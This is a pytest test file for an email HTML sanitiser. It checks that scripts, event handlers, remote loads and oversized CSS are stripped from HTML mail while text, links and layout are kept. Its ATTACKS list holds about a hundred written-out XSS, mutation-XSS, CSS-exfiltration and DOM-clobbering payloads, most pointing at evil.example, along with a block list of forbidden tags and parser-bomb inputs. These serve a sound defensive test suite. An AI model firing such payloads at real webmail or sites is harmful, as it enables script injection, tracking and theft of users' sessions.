"""HTML mail is harmless once it has passed the server: nothing loads, nothing runs, text stays."""

from __future__ import annotations

import contextlib
import re
import time

import pytest

from posthouse.limits import MAIL_ADDRESS, MAIL_CSS, MAIL_CSS_NESTING, MAIL_CSS_RULES, MAIL_HTML_TAGS
from posthouse.web.mail_css import safe_declarations, safe_sheet
from posthouse.web.mail_html import TooComplex, make_safe
from tests.machine import slowness

SMUGGLED = "evil.example"


def proxied(address: str) -> str:
    return "/mail/image?url=" + address.replace("/", "%2F").replace(":", "%3A")


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<body background='http://evil.example/x.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x'/></svg>",
    "<svg><image href='http://evil.example/x.png'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form action='http://evil.example/'><input name=a><button>Send</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe src='http://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='http://evil.example/x.swf'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<link rel=dns-prefetch href='//evil.example'>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>p{background:url(http://evil.example/x.png)}</style>",
    "<style>p{background:u\\72l(http://evil.example/x.png)}</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>",
    "<style>a[href^='h']{background:image-set('http://evil.example/h' 1x)}</style>",
    "<style>p::after{content:url(http://evil.example/x)}</style>",
    "<style>p{behavior:url(#x);-moz-binding:url(http://evil.example/x)}</style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<style>a{}</sty\\6ce><script>alert(1)</script>",
    "<style>x{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
    "<p style='background-image:url(http://evil.example/x.png)'>x</p>",
    "<p style='background:url(\"//evil.example/x.png\")'>x</p>",
    "<p style='list-style:url(http://evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='color:red;position:fixed;top:0;left:0;z-index:9999'>x</p>",
    "<p style='cursor:url(http://evil.example/c)'>x</p>",
    "<p style=\"color:re\\64;background:\\75 rl('http://evil.example/x')\">x</p>",
    "<p style='--x:url(http://evil.example/x);background:var(--x)'>x</p>",
    "<p style='border-image:url(http://evil.example/x) 30'>x</p>",
    "<p style='mask:url(http://evil.example/x)'>x</p>",
    "<p style='filter:url(http://evil.example/x#y)'>x</p>",
    "<div style='background:/**/url(http://evil.example/x)'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/settings'>x</a>",
    "<a href='blob:http://evil.example/x'>x</a>",
    "<a href=x ping='http://evil.example/'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='/mail/image?url=x'>",
    "<img src='//evil.example/x.png'>",
    "<img srcset='http://evil.example/x.png 2x'>",
    "<img lowsrc='http://evil.example/x.png'>",
    "<img src=x longdesc='http://evil.example/'>",
    "<picture><source srcset='http://evil.example/x.png'><img></picture>",
    "<video src='http://evil.example/x.mp4' poster='http://evil.example/x.png' autoplay></video>",
    "<audio src='http://evil.example/x.mp3' autoplay></audio>",
    "<table background='http://evil.example/x.png'><tr><td background='http://evil.example/y.png'>x</td></tr></table>",
    "<div background='http://evil.example/x.png'>x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='http://evil.example/x.css'?>",
    "<p id=location name=cookie>x</p>",
    "<a id=defaultView href='http://x.example/'>x</a>",
    "<isindex action='javascript:alert(1)'>",
    "<frameset><frame src='http://evil.example/'></frameset>",
    "<layer src='http://evil.example/'></layer>",
    "<bgsound src='http://evil.example/x'>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<p is=x-y>x</p><x-y onclick=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<a href='http://x.example/' onclick=alert(1)>x</a>",
    "<div contenteditable onblur=alert(1)>x</div>",
    "<p title='&quot;><script>alert(1)</script>'>x</p>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<p>" * 3000 + "<script>alert(1)</script>",
]

_LOADS = re.compile(
    r"""\s(?:src|srcset|href|background|poster|data|action|formaction|ping|lowsrc)\s*=\s*["']?([^"'\s>]*)""",
    re.IGNORECASE,
)
_TAG = re.compile(r"<([a-zA-Z][\w-]*)")
FORBIDDEN = {
    *(
        "script",
        "style",
        "svg",
        "math",
        "form",
        "input",
        "button",
        "iframe",
        "object",
        "embed",
        "base",
        "meta",
    ),
    *("link", "video", "audio", "source", "textarea", "select", "frame", "frameset", "template", "marquee"),
}


@pytest.mark.parametrize("source", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_that_runs_or_loads_is_left(source: str) -> None:
    found = make_safe(source, proxied)
    tags = {name.lower() for name in _TAG.findall(found.html)}
    assert not tags & FORBIDDEN
    markup = "".join(re.findall(r"<[^<>]*>", found.html))
    assert not re.search(r"\son\w+\s*=", markup, re.IGNORECASE)
    for address in _LOADS.findall(markup):
        assert address.startswith(("https://", "http://x.example/", "remote:", "cid:", "data:image/png"))
    assert " id=" not in markup
    assert " name=" not in markup
    for css in (found.style_sheet, *re.findall(r'style="([^"]*)"', found.html)):
        assert "url" not in css
        assert SMUGGLED not in css
        assert "<" not in css
        assert "position" not in css
        assert "expression" not in css


def test_text_links_and_layout_stay() -> None:
    source = (
        '<body bgcolor="#eeeeee"><table width="600" cellpadding="0"><tr><td align="center" style="padding:8px;'
        'color:#333"><h1>Rechnung 发票</h1><a href="https://shop.example/x?a=1&amp;b=2">view</a></td></tr></table>'
    )
    found = make_safe(source, proxied)
    assert "<h1>Rechnung 发票</h1>" in found.html
    assert 'href="https://shop.example/x?a=1&amp;b=2"' in found.html
    assert 'target="_blank"' in found.html
    assert "noopener" in found.html
    assert 'bgcolor="#eeeeee"' in found.html
    assert 'style="padding:8px;color:#333"' in found.html
    assert 'width="600"' in found.html


def test_remote_pictures_wait_behind_the_proxy_and_are_counted() -> None:
    source = '<img src="https://a.example/x.png"><img src="http://b.example/y"><img src="cid:logo@a">'
    found = make_safe(source, proxied)
    assert found.remote_images == 2
    assert 'src="remote:/mail/image?url=https%3A%2F%2Fa.example%2Fx.png"' in found.html
    assert 'src="cid:logo@a"' in found.html


def test_a_picture_in_the_message_itself_is_shown() -> None:
    assert (
        "data:image/gif;base64,R0lGODlhAQABAAAAACw="
        in make_safe('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', proxied).html
    )


def test_of_a_background_its_colour_stays() -> None:
    assert (
        safe_declarations("background:#ff0 url(http://evil.example/x) no-repeat") == "background-color:#ff0"
    )


def test_a_style_sheet_keeps_plain_rules_and_media() -> None:
    sheet = safe_sheet(
        "p.a > b{color:red !important;top:0} @media (max-width:600px){.w{width:100%}} a:hover{color:blue}"
    )
    assert sheet.splitlines() == [
        "p.a > b{color:red !important}",
        "@media (max-width:600px){.w{width:100%}}",
        "a:hover{color:blue}",
    ]


def test_style_sheets_are_bounded() -> None:
    assert safe_sheet("p{color:red}" * (MAIL_CSS_RULES + 500)).count("p{") == MAIL_CSS_RULES
    assert safe_sheet("@media all{" * 300 + "p{color:red}" + "}" * 300) == ""


@pytest.mark.parametrize(("longer", "kept"), [(0, True), (1, False)])
def test_css_of_so_many_characters_is_read(longer: int, kept: bool) -> None:
    assert bool(safe_declarations("color:red".rjust(MAIL_CSS + longer))) is kept
    assert "a{" not in safe_sheet("p{color:red}".rjust(MAIL_CSS + longer) + "a{color:red}")


@pytest.mark.parametrize(("deep", "kept"), [(MAIL_CSS_NESTING, True), (MAIL_CSS_NESTING + 1, False)])
def test_media_rules_stand_so_deep(deep: int, kept: bool) -> None:
    assert MAIL_CSS_NESTING < 20
    assert bool(safe_sheet("@media all{" * deep + "p{color:red}" + "}" * deep)) is kept


@pytest.mark.parametrize(("longer", "kept"), [(0, True), (1, False)])
def test_an_address_has_so_many_characters(longer: int, kept: bool) -> None:
    address = "https://shop.example/".ljust(MAIL_ADDRESS + longer, "x")
    assert (address in make_safe(f'<a href="{address}">x</a>', proxied).html) is kept
    assert make_safe(f'<img src="{address}">', proxied).remote_images == kept


def test_too_many_tags_are_refused_and_as_many_as_allowed_are_not() -> None:
    assert make_safe("<i>" * MAIL_HTML_TAGS, proxied).html
    with pytest.raises(TooComplex):
        make_safe("<i>" * (MAIL_HTML_TAGS + 1), proxied)


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * MAIL_HTML_TAGS,
        "<b" * 200_000,
        "<style>" * 20_000,
        "<p style='" + "a:b;" * 50_000 + "'>",
        "<" * 400_000,
        "&" * 400_000,
        "<table>" * 20_000,
        "<style>" + "@media all{" * 20_000,
        "<p style='" + "(" * 100_000 + "'>",
        "<a href='" + "x" * 1_000_000 + "'>",
    ],
    ids=range(10),
)
def test_bombs_take_bounded_time(bomb: str) -> None:
    begin = time.process_time()
    with contextlib.suppress(TooComplex):
        make_safe(bomb, proxied)
    assert time.process_time() - begin < 5 * slowness()
